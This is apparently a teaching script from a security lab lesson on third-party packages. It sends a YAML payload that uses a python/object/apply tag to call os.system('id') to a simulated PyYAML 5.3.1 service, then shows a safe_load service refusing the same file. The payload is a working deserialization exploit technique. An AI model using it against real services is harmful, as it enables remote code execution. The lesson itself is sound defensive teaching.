"""Lesson "Third-party packages", section 3: what a known flaw lets a stranger do.

Save the lab's CA as safelab-ca.pem next to this script, then run:  python payload.py
It sends clinic-report's insecure report service, which runs PyYAML 5.3.1, a
settings file that would make yaml.full_load call os.system("id"), and the
secure service the same file. The lab only simulates the loader: nothing runs.
"""

import sys

import requests

HTTP = "{{http}}"
PAYLOAD = 'title: Weekly admissions\nrun: !!python/object/apply:os.system ["id"]\n'


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


def main() -> None:
    deployed = requests.get(f"{HTTP}/lab/insecure/packages/deployed", timeout=10).json()
    versions = {pin["package"]: pin["version"] for pin in deployed["deployed"]}
    print("the insecure service runs PyYAML", versions.get("pyyaml"))

    # yaml-payload: the vulnerable loader would have called os.system('id').
    answer = requests.post(f"{HTTP}/lab/insecure/packages/settings", data=PAYLOAD, timeout=10)
    check(answer.status_code == 200, f"the insecure service answered {answer.status_code}: {answer.text}")
    result = answer.json()
    check(result["would_run"] == "os.system('id')", f"it would run {result['would_run']}")
    print(f"PyYAML {result['pyyaml']} with {result['loader']} would run {result['would_run']}")
    print("known advisories:", ", ".join(result["advisories"]))

    # The secure service reads settings with yaml.safe_load: the tag is refused.
    refused = requests.post(f"{HTTP}/lab/secure/packages/settings", data=PAYLOAD, timeout=10)
    check(refused.status_code == 400, f"the secure service answered {refused.status_code}")
    print("secure:", refused.json()["error"])


if __name__ == "__main__":
    main()
